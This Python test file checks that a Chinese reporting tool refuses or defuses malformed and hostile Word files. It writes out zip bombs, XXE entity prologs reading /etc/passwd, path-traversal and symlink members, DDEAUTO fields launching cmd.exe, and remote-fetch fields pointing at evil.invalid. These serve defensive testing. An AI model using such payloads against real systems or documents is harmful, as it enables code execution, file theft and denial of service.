"""What is no Word file, or is broken, locked, huge or hostile, is refused in Chinese; nothing else comes out."""

from __future__ import annotations

import io
import socket
import struct
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from baogao.corpus import Data, Source, parse_report
from baogao.corpus.intake import (
    Manuscript,
    Metadata,
    UnreadableError,
    compose,
    read_draft,
    read_manuscript,
)
from baogao.corpus.intake.docx.package import MAX_FILE
from baogao.export import report_docx
from baogao.pages.report import text_html
from tests.docx import (
    core,
    field,
    numbered,
    numbering,
    p,
    pack,
    part,
    parts,
    r,
    relationships,
    style,
    tbl,
    text_box,
    tr,
    word,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def refused(content: bytes, name: str = "a.docx") -> str:
    with pytest.raises(UnreadableError) as caught:
        read_manuscript(content, name)
    return str(caught.value)


@pytest.mark.parametrize(
    ("content", "name", "said"),
    [
        (OLE + b"WordDocument", "a.doc", "旧版 Word 文件（.doc 或 .wps）"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "加了打开密码"),
        (b"%PDF-1.7", "a.pdf", "没有原稿的，用 WPS 的“PDF 转 Word”"),
        (b"{\\rtf1", "a.rtf", "RTF 文件"),
        (b"<html><body>", "a.doc", "网页格式"),
        (b"<?xml version='1.0'?><?mso-application progid='Word.Document'?>", "a.doc", "Word 2003"),
        ("正文。".encode(), "a.docx", "名字以 .docx 结尾，内容却不是 Word 文件"),
        (pack({"OFD.xml": b"<a/>"}), "a.ofd", "OFD 版式文件"),
        (pack({"mimetype": b"x", "content.xml": b"<a/>"}), "a.odt", "OpenDocument"),
        (pack({"a.docx": word(p("文"))}), "a.zip", "这是压缩包，不是 Word 文件"),
        (word(p("文"), main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "a.xlsx", "Excel 表格"),
        (word(p("文"), main_type="text/plain"), "a.docx", "里面没有正文"),
        (b"PK\x03\x04", "a.docx", "已损坏"),
        (b"PK", "a.docx", "已损坏"),
    ],
)  # fmt: skip
def test_what_is_no_word_file(content: bytes, name: str, said: str) -> None:
    message = refused(content, name)
    assert said in message
    if "PDF" not in message and "Excel" not in message:
        assert ".docx" in message or "再导入" in message


@pytest.mark.parametrize("cut", [10, 100, 500, -1, -10, -30])
def test_half_a_file(cut: int) -> None:
    assert "已损坏" in refused(word(p("正文。"))[:cut])


def test_a_broken_part() -> None:
    files = parts(p("正文。"))
    files["word/document.xml"] = files["word/document.xml"][:-30]
    assert "已损坏" in refused(pack(files))


def test_a_broken_stream() -> None:
    content = bytearray(pack(parts(p("正文。" * 200)), zipfile.ZIP_STORED))
    at = content.index("正文".encode())
    content[at : at + 3] = "中".encode()
    assert "已损坏" in refused(bytes(content))


def test_a_size_that_lies() -> None:
    """More comes out of the stream than its header says."""
    files = parts(p("正文。" * 5000))
    content = bytearray(pack(files))
    size = struct.pack("<L", len(files["word/document.xml"]))
    while (at := content.find(size)) >= 0:
        content[at : at + 4] = struct.pack("<L", 100)
    assert "已损坏" in refused(bytes(content))


# Zip bombs


def bomb(size: int) -> bytes:
    return part("document", "<w:body>" + p("零" * size) + "</w:body>")


def test_too_much_text() -> None:
    assert "太大" in refused(pack({**parts(), "word/document.xml": bomb(600_000)}))


def test_a_part_of_many_megabytes() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts().items():
            if name != "word/document.xml":
                made.writestr(name, content)
        with made.open("word/document.xml", "w") as part_stream:
            for _ in range(40):
                part_stream.write(b" " * 1_000_000)
    assert "太大" in refused(stream.getvalue())


def test_many_parts_that_are_each_just_small_enough() -> None:
    blank = b"<a>" + b" " * 20_000_000 + b"</a>"
    files = parts(p("文"), **{f"header{n}": blank for n in range(6)})
    assert "太大" in refused(pack(files))


@pytest.mark.parametrize("piece", [p(), "<w:r/>", "<x/>", "<w:sz/>", "<w:br/>", "<w:tbl/>"])
def test_too_many_elements(piece: str) -> None:
    body = part("document", "<w:body>" + piece * (28_000_000 // len(piece)) + "</w:body>")
    assert "太大" in refused(pack({**parts(), "word/document.xml": body}))


def test_one_tag_of_many_megabytes() -> None:
    attributes = " ".join(f"a{n}=''" for n in range(1_500_000))
    body = part("document", f"<w:body {attributes}/>")
    assert "长得不正常" in refused(pack({**parts(), "word/document.xml": body}))


def test_too_deep() -> None:
    for tag in ("w:p", "w:tbl", "x", "w:sdt"):
        body = part("document", "<w:body>" + f"<{tag}>" * 5000 + f"</{tag}>" * 5000 + "</w:body>")
        assert "太多层" in refused(pack({**parts(), "word/document.xml": body}))


def test_too_large_a_file() -> None:
    assert "MB" in refused(b"PK\x03\x04" + bytes(MAX_FILE))


def test_a_directory_of_many_members() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for n in range(5000):
            made.writestr(f"{n}.xml", b"")
    assert "太多" in refused(stream.getvalue())


def test_a_directory_that_claims_to_be_huge() -> None:
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 60000, 60000, 3_900_000_000, 0, 0)
    assert "太多" in refused(b"PK\x03\x04" + bytes(100) + end)
    zip64 = (
        b"PK\x06\x07"
        + struct.pack("<LQL", 0, 0, 1)
        + b"PK\x05\x06"
        + struct.pack("<HHHHLLH", 0, 0, 1, 1, 50, 0, 0)
    )
    assert "太多" in refused(b"PK\x03\x04" + bytes(100) + zip64)


def test_members_that_overlap() -> None:
    """Forty names for one stream: the way zip bombs grow without nesting."""
    content = pack(parts(p("文")), zipfile.ZIP_STORED)
    at = content.index(b"PK\x01\x02")
    size = 46 + struct.unpack("<H", content[at + 28 : at + 30])[0]
    entry = content[at : at + size]
    end = content[content.rindex(b"PK\x05\x06") :]
    directory = content[at : content.rindex(b"PK\x05\x06")] + entry * 40
    count, old_count = len(parts()) + 40, len(parts())
    assert struct.unpack("<H", end[8:10])[0] == old_count
    made = (
        content[:at]
        + directory
        + end[:8]
        + struct.pack("<HHL", count, count, len(directory))
        + end[16:]
    )
    assert "重名" in refused(made)


# Entities, paths, passwords


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE w:document [<!ENTITY a "零"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w:document SYSTEM "http://example.org/a.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", ["word/document.xml", "[Content_Types].xml", "_rels/.rels", "word/styles.xml", "docProps/core.xml"])  # fmt: skip
def test_entities(prolog: str, encoding: str, name: str) -> None:
    files = parts(p("文"), styles=part("styles", ""), core=core(creator="甲"))
    text = files[name].decode()
    text = text.partition("?>")[2] if text.startswith("<?xml") else text
    files[name] = f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{text}'.encode(encoding)
    assert "XML 实体" in refused(pack(files))


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/a", "/etc/passwd", "word\\..\\a", "C:/a", "word/./a", "a\0b"]
)
def test_paths_that_lead_out(name: str) -> None:
    content = pack({**parts(p("文")), "N" * len(name): b"x"}).replace(
        b"N" * len(name), name.encode()
    )
    assert "不正常的路径" in refused(content)


def test_symbolic_links() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for name, content in parts(p("文")).items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("word/media/a.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    assert "不正常的路径" in refused(stream.getvalue())


def test_relationships_that_lead_out_lead_nowhere() -> None:
    files = parts(p("文"))
    files["word/_rels/document.xml.rels"] = relationships(
        {"a": ("styles", "../../../etc/passwd"), "b": ("comments", "file:///etc/passwd")}
    )
    made = read_manuscript(pack(files))
    assert [piece.text for piece in made.lines] == ["文"]
    files["_rels/.rels"] = relationships(
        {"a": ("officeDocument", "http://example.org/document.xml")}
    )
    assert "里面没有正文" in refused(pack(files))


#: What Word, opening the file, would fetch, start or take in.
FETCHED = (
    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', r("结果一")), field('DDE Excel "a.xls"', r("结果二")),
    field('INCLUDETEXT "http://evil.invalid/a.docx"', r("结果三")), field('INCLUDEPICTURE "http://evil.invalid/a.png" \\d', r("结果四")),
    field('HYPERLINK "javascript:alert(1)"', r("结果五")), field('MACROBUTTON Evil 点', r("")), field("AUTOTEXT evil", r("结果六")),
    '<w:hyperlink r:id="out">' + r("结果七") + "</w:hyperlink>", '<w:fldSimple w:instr=" DDEAUTO cmd ">' + r("结果八") + "</w:fldSimple>",
    r('<w:drawing><a:blip r:link="picture"/></w:drawing>'),
    r('<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="ole"/></w:object>'),
)  # fmt: skip


def test_what_word_would_fetch_or_start_is_at_most_text(
    data: Data, monkeypatch: pytest.MonkeyPatch
) -> None:
    def reached(*_: object) -> None:
        raise AssertionError("a Word file made the program reach out")

    files = parts(*(p(each) for each in FETCHED), '<w:altChunk r:id="chunk"/>', p("=1+1 [点](javascript:alert(1)) <script>"))  # fmt: skip
    out = ("hyperlink", "image", "oleObject", "aFChunk", "attachedTemplate", "frame", "subDocument")
    names = ("out", "picture", "ole", "chunk", "template", "frame", "sub")
    files["word/_rels/document.xml.rels"] = relationships(
        {name: (kind, f"http://evil.invalid/{name}") for name, kind in zip(names, out, strict=True)}
    )
    files["word/_rels/settings.xml.rels"] = relationships({"t": ("attachedTemplate", "file://evil.invalid/t.dotm")})  # fmt: skip
    for name in ("socket", "create_connection", "getaddrinfo"):
        monkeypatch.setattr(socket, name, reached)
    draft = read_draft(read_manuscript(pack(files)), data)
    kind, unit = data.kinds.find("年度工作总结"), data.units.units[0]
    assert kind
    made = Metadata("标题", 2022, unit, kind, None, None, "published")
    report = parse_report("2022/a", Source("a.md", compose(draft, made).text), data)
    for code in ("evil.invalid", "DDE", "cmd", "INCLUDE", "MACROBUTTON", "AUTOTEXT"):
        assert code not in report.source.text, code
    assert all(f"结果{number}" in report.text for number in "一二三五六七八")
    html = text_html(report)
    assert "<a href=" not in html and "<script" not in html
    assert "=1+1 [点](javascript:alert(1)) &lt;script&gt;" in html
    exported = zipfile.ZipFile(io.BytesIO(report_docx(report)))
    assert not any(b'"External"' in exported.read(name) for name in exported.namelist())


def test_the_same_name_twice() -> None:
    assert "重名" in refused(pack({**parts(p("文")), "WORD/Document.xml": b"<a/>"}))


def test_members_with_a_password() -> None:
    content = bytearray(pack(parts(p("文"))))
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    assert "密码" in refused(bytes(content))


def test_other_methods_of_compression() -> None:
    assert "少见的压缩方法" in refused(pack(parts(p("文")), zipfile.ZIP_LZMA))


# Anything at all

WHOLE = word(
    p("一、做法", style="1"), numbered("项"), tbl(tr("甲", "乙")), p("框", text_box(p("内"))), p(r('<w:footnoteReference w:id="1"/>')),
    styles=part("styles", style("1", "heading 1")), numbering=part("numbering", numbering({0: "<w:lvl w:ilvl='0'/>"}, {1: (0, "")})),
    footnotes=part("footnotes", f'<w:footnote w:id="1">{p("注")}</w:footnote>'), core=core(creator="甲"),
)  # fmt: skip
STORED = pack({name: zipfile.ZipFile(io.BytesIO(WHOLE)).read(name) for name in zipfile.ZipFile(io.BytesIO(WHOLE)).namelist()}, zipfile.ZIP_STORED)  # fmt: skip


def survives(content: bytes) -> None:
    """Read, or refused in Chinese: nothing else."""
    try:
        made = read_manuscript(content, "a.docx")
    except UnreadableError as error:
        assert any("一" <= character <= "鿿" for character in str(error))
    else:
        assert isinstance(made, Manuscript)


@settings(max_examples=100, deadline=None)  # ``bench fuzz`` does more
@given(
    whole=st.sampled_from([WHOLE, STORED]),
    changes=st.lists(
        st.tuples(st.integers(0, len(STORED) - 1), st.integers(0, 255)), min_size=1, max_size=6
    ),
    cut=st.none() | st.integers(0, len(STORED)),
)
def test_damaged_bytes(whole: bytes, changes: list[tuple[int, int]], cut: int | None) -> None:
    content = bytearray(whole)
    for at, value in changes:
        content[at % len(content)] = value
    survives(bytes(content[:cut]))


NAMES = "p r t tbl tr tc sdt sdtContent ins del fldChar instrText fldSimple txbxContent pPr rPr numPr numId ilvl vanish br sym drawing pict footnoteReference hyperlink sectPr tcPr gridSpan vMerge pStyle outlineLvl ruby rt rubyBase commentReference"  # fmt: skip
VALUES = st.sampled_from(
    ["begin", "separate", "end", "1", "0", "-1", "99999999999", "²", "", "TOC", "x", "true", "2"]
)


@st.composite
def elements(draw: st.DrawFn, depth: int = 0) -> str:
    """Any elements of a document in any order."""
    tag = draw(st.sampled_from(NAMES.split(" ")))
    attributes = draw(st.dictionaries(st.sampled_from(["val", "id", "fldCharType", "instr", "font", "char", "type", "author"]), VALUES, max_size=2))  # fmt: skip
    inside = "".join(draw(st.lists(elements(depth + 1), max_size=2))) if depth < 5 else ""
    text = draw(st.sampled_from(["", "文", "一、", " TOC \\o ", "EQ \\o\\ac(○,1)"]))
    return f"<w:{tag} {' '.join(f'w:{k}={chr(34)}{v}{chr(34)}' for k, v in attributes.items())}>{text}{inside}</w:{tag}>"


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(body=st.lists(elements(), max_size=8), other=st.lists(elements(), max_size=4), name=st.sampled_from(["styles", "numbering", "footnotes", "comments", "settings", "header1"]))  # fmt: skip
def test_any_elements_in_any_order(body: list[str], other: list[str], name: str) -> None:
    content = word(*body, **{name: part(name.rstrip("1"), "".join(other))})
    made = read_manuscript(content)
    assert isinstance(made, Manuscript)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_any_deflated_bytes(content: bytes) -> None:
    survives(pack({**parts(), "word/document.xml": content}))
    survives(b"PK\x03\x04" + zlib.compress(content))
